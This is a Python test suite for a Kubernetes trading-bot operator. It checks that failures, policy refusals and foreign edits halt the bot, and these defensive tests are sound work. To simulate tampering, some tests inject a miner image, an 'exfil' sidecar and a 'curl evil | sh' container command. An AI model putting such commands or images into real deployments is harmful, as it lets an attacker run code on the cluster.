"""Fail closed: whatever stops a bot's reconcile, the bot stops. Issue 8 in the fast tier.

Issue 8's findings 1, 3, 6 and 7 as behaviour: each was a strict xfail on the code
before main's b7538b0 (it failed there for the reason the finding gives) and passes
since. A ValidatingAdmissionPolicy is modelled by an
admission hook on the fake API server that answers 403 as kube-apiserver does.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from operator_harness import NS, Harness, armed_at, bot
from spy_dev.fake_kube import AdmissionRequest
from spy_operator import constants as c
from virtual_time import virtual_time

DEPLOYMENTS = f"/apis/apps/v1/namespaces/{NS}/deployments/*"


def carries_template(req: object) -> bool:
    """An apply or patch that sends the pod template (a replicas-only write does not)."""
    body = getattr(req, "body", None) or {}
    return isinstance(body, dict) and "template" in (body.get("spec") or {})


async def running_bot(name: str = "b", **harness: object) -> Harness:
    h = await Harness(**harness).start()  # type: ignore[arg-type]
    h.paper_world()
    h.create(bot(name))
    await h.wait_until("armed", armed_at(h, name), within=5)
    return h


def closed_and_says_so(h: Harness, name: str = "b") -> bool:
    status = h.status(name)
    return h.replicas(name) == 0 and status.get("armed") is False and status.get("replicas") == 0


# ------------------------------------------------------------------ today's paths


@pytest.mark.parametrize("status", [400, 422])
@virtual_time
async def test_a_refused_apply_scales_the_bot_to_zero(status: int) -> None:
    h = await running_bot()
    h.api.fail("PATCH", DEPLOYMENTS, status, "refused", times=None, when=carries_template)
    h.halt()
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=1)
    await h.stop()


@virtual_time
async def test_a_spec_the_view_refuses_scales_the_bot_to_zero_and_says_why() -> None:
    """A malformed object (the schema would refuse it; an older CRD might not)."""
    h = await running_bot()
    h.api.patch("TradingBot", NS, "b", {"spec": {"mode": "bogus"}})
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=1)
    await h.wait_until("said", lambda: h.status("b").get("armed") is False, within=1)
    await h.stop()


@virtual_time
async def test_a_crashing_reconcile_scales_the_bot_to_zero() -> None:
    """An unexpected exception in the pass (here: a proxy answers the apply with an HTML
    page, which the client cannot parse) takes the crash path, which closes the bot."""
    h = await running_bot()
    h.api.fail(
        "PATCH", DEPLOYMENTS, 200, times=None, when=carries_template, text="<html>proxy</html>"
    )
    h.halt()
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=1)
    await h.stop()


@virtual_time
async def test_a_failing_close_is_retried_until_the_api_answers() -> None:
    h = await running_bot()
    h.api.fail("PATCH", DEPLOYMENTS, 422, "refused", times=None, when=carries_template)
    h.api.fail("PATCH", DEPLOYMENTS, 503, "unavailable", times=3)
    h.halt()
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=10)
    await h.stop()


@virtual_time
async def test_a_deleted_bot_waiting_on_a_finalizer_is_scaled_to_zero() -> None:
    h = await running_bot()
    h.api.patch("TradingBot", NS, "b", {"metadata": {"finalizers": ["example.com/audit"]}})
    h.api.delete("TradingBot", NS, "b")
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=1)
    await h.stop()


@virtual_time
async def test_a_hand_edit_of_an_operator_owned_field_is_reverted() -> None:
    h = await running_bot()
    image = "evil.example/miner:latest"
    containers = [{"name": "bot", "image": image}]
    h.api.patch(
        "Deployment", NS, "b-bot", {"spec": {"template": {"spec": {"containers": containers}}}}
    )
    await h.wait_until(
        "image restored",
        lambda: (
            (h.api.peek("Deployment", NS, "b-bot") or {})["spec"]["template"]["spec"]["containers"][
                0
            ]["image"]
            != image
        ),
        within=1,
    )
    await h.stop()


# --------------------------------------------------------------- issue 8 findings


@pytest.mark.parametrize(
    ("status", "extra"),
    [(403, {}), (500, {}), (503, {}), (0, {}), (409, {})],
    ids=["403-policy", "500", "503", "timeout", "409"],
)
@virtual_time
async def test_any_failure_of_the_apply_still_scales_the_bot_to_zero(
    status: int, extra: dict[str, object]
) -> None:
    """Only writes that carry the pod template fail; a replicas-only write (merge patch,
    replicas-only apply, or /scale) gets through, so a halt must bring the bot to 0."""
    h = await running_bot()
    h.api.fail("PATCH", DEPLOYMENTS, status, "refused", times=None, when=carries_template, **extra)
    h.halt()
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=2)
    await h.stop()


@virtual_time
async def test_a_policy_refusing_the_new_template_does_not_block_a_halt() -> None:
    """The bot's image is changed to one a ValidatingAdmissionPolicy refuses, then the
    halt comes: the one apply carrying both replicas 0 and the template is refused (403),
    and today nothing else is tried."""
    h = await running_bot()

    def registry_policy(req: AdmissionRequest) -> str | None:
        if req.plural != "deployments" or req.subresource:
            return None
        for container in req.new["spec"]["template"]["spec"]["containers"]:
            if not container["image"].startswith("spyoptions.azurecr.io/"):
                return "ValidatingAdmissionPolicy 'registry' denied request: image not allowed"
        return None

    h.api.admission.append(registry_policy)
    h.api.patch("TradingBot", NS, "b", {"spec": {"image": "docker.io/someone/bot:1"}})
    h.halt()
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=2)
    await h.stop()


@virtual_time
async def test_a_policy_refusing_the_running_deployment_does_not_block_a_halt() -> None:
    h = await running_bot()

    def limits_policy(req: AdmissionRequest) -> str | None:
        if req.plural != "deployments" or req.subresource == "scale":
            return None
        for container in req.new["spec"]["template"]["spec"]["containers"]:
            if "limits" not in (container.get("resources") or {}):
                return "ValidatingAdmissionPolicy 'limits' denied request: no resource limits"
        return None

    h.api.admission.append(limits_policy)
    h.halt()
    await h.wait_until("closed", lambda: h.replicas("b") == 0, within=2)
    await h.stop()


@virtual_time
async def test_status_never_says_armed_after_a_failed_reconcile() -> None:
    h = await running_bot()
    h.api.fail("PATCH", DEPLOYMENTS, 403, "denied", times=None, when=carries_template)
    h.halt()
    await h.wait_until("closed, and status says so", lambda: closed_and_says_so(h), within=5)
    cond = next(x for x in h.status("b")["conditions"] if x["type"] == "Armed")
    assert cond["status"] == "False"
    await h.stop()


def said_foreign_change(h: Harness, name: str = "b") -> bool:
    """A status write said ForeignChange, not armed (the state lasts only until the
    rebuilt Deployment is applied, which the DELETED event triggers at once)."""
    return any(
        req.path.endswith(f"/tradingbots/{name}/status")
        and (req.body or {}).get("status", {}).get("reason") == "ForeignChange"
        and (req.body or {}).get("status", {}).get("armed") is False
        for req in h.api.writes("tradingbots", "status")
    )


def lowered_or_deleted_since(h: Harness, mark: int, dep: str = "b-bot") -> bool:
    """Did a write set the Deployment to 0 replicas (any verb, /scale or not) or delete
    it after request number `mark`?"""
    for req in h.api.requests[mark:]:
        if not req.path.endswith(f"/deployments/{dep}") and not req.path.endswith(
            f"/deployments/{dep}/scale"
        ):
            continue
        sets_zero = (req.body or {}).get("spec", {}).get("replicas") == 0
        if req.status < 300 and (req.verb == "DELETE" or (req.verb == "PATCH" and sets_zero)):
            return True
    return False


def template_of(h: Harness, dep: str = "b-bot") -> dict[str, Any]:
    found = h.api.peek("Deployment", NS, dep) or {}
    return dict(found.get("spec", {}).get("template", {}).get("spec", {}))


async def foreign_change_handled(h: Harness, mark: int, clean: Callable[[], bool]) -> None:
    """The bot is held (0 or deleted) with reason ForeignChange, then rebuilt clean."""
    await h.wait_until("lowered or deleted", lambda: lowered_or_deleted_since(h, mark), within=2)
    await h.wait_until("rebuilt clean and armed", lambda: clean() and armed_at(h, "b")(), within=10)


@virtual_time
async def test_a_foreign_sidecar_holds_the_bot_and_the_deployment_is_rebuilt_without_it() -> None:
    h = await running_bot()
    mark = len(h.api.requests)
    sidecar = {"name": "sidecar", "image": "evil.example/exfil:1"}
    h.api.apply(
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "b-bot", "namespace": NS},
            "spec": {"template": {"spec": {"containers": [sidecar]}}},
        },
        manager="mallory",
    )
    await h.wait_until("ForeignChange", lambda: said_foreign_change(h), within=2)

    def names() -> list[str]:
        return [x["name"] for x in template_of(h).get("containers", [])]

    await foreign_change_handled(h, mark, lambda: names() == ["bot"])
    await h.stop()


@virtual_time
async def test_a_foreign_command_holds_the_bot_and_the_deployment_is_rebuilt_without_it() -> None:
    h = await running_bot()
    mark = len(h.api.requests)
    patch = {"containers": [{"name": "bot", "command": ["/bin/sh", "-c", "curl evil | sh"]}]}
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"template": {"spec": patch}}})
    await h.wait_until("ForeignChange", lambda: said_foreign_change(h), within=2)
    await foreign_change_handled(
        h, mark, lambda: "command" not in template_of(h).get("containers", [{}])[0]
    )
    await h.stop()


@virtual_time
async def test_a_foreign_rolling_update_strategy_takes_the_deployment_to_zero() -> None:
    """A RollingUpdate could run two bots at once during a rollout (double orders)."""
    h = await running_bot()
    mark = len(h.api.requests)
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"strategy": {"type": "RollingUpdate"}}})
    await h.wait_until("lowered or deleted", lambda: lowered_or_deleted_since(h, mark), within=2)

    def strategy() -> dict[str, Any]:
        dep = h.api.peek("Deployment", NS, "b-bot") or {}
        return dict(dep.get("spec", {}).get("strategy", {}))

    await h.wait_until("Recreate again", lambda: strategy().get("type") == "Recreate", within=10)
    await h.stop()


@virtual_time
async def test_a_foreign_rolling_update_strategy_is_reported_in_status() -> None:
    h = await running_bot()
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"strategy": {"type": "RollingUpdate"}}})
    await h.wait_until("status says so", lambda: said_foreign_change(h), within=5)
    await h.stop()


@virtual_time
async def test_a_halt_scales_every_bot_down_before_writing_any_status() -> None:
    """Issue 8 finding 6: 24 armed bots, 8 workers; at the first bot status write after
    the halt, every bot Deployment must already be at 0."""
    h = await Harness(workers=8).start()
    h.paper_world()
    names = [f"b{i:02d}" for i in range(24)]
    for name in names:
        h.create(bot(name))
    await h.wait_until("all armed", lambda: all(armed_at(h, n)() for n in names), within=10)
    running_at_status: list[int] = []

    def observe(req: AdmissionRequest) -> None:
        # At each bot status write, how many bot Deployments still have replicas?
        if req.plural == "tradingbots" and req.subresource == "status":
            running_at_status.append(sum(h.replicas(n) or 0 for n in names))

    h.api.admission.append(observe)
    h.halt()
    await h.wait_until("all closed", lambda: all(h.replicas(n) == 0 for n in names), within=10)
    await h.wait_until("statuses", lambda: len(running_at_status) >= len(names), within=10)
    assert running_at_status[0] == 0, f"first status written with {running_at_status[0]} running"
    await h.stop()


@virtual_time
async def test_an_orphaned_bot_deployment_is_kept_at_zero() -> None:
    h = await running_bot()
    h.api.delete("TradingBot", NS, "b", orphan=True)  # kubectl delete --cascade=orphan
    assert h.get("Deployment", "b-bot") is not None, "orphaned, not collected"
    await h.wait_until("orphan closed", lambda: h.replicas("b") == 0, within=5)
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"replicas": 2}}, manager="kubectl-scale")
    await h.wait_until("and kept there", lambda: h.replicas("b") == 0, within=5)
    await h.stop()


@virtual_time
async def test_a_copy_carrying_the_bot_labels_is_halted() -> None:
    h = await running_bot()
    copy = h.get("Deployment", "b-bot")
    assert copy is not None
    meta = copy["metadata"]
    h.api.apply(
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "b-copy", "namespace": NS, "labels": meta["labels"]},
            "spec": {**copy["spec"], "replicas": 1},
        },
        manager="mallory",
    )
    h.halt()
    await h.wait_until(
        "copy closed",
        lambda: (h.api.peek("Deployment", NS, "b-copy") or {})["spec"]["replicas"] == 0,
        within=5,
    )
    assert h.get("ConfigMap", c.HALT_CONFIGMAP, c.DEFAULT_OPERATOR_NAMESPACE) is not None
    await h.stop()
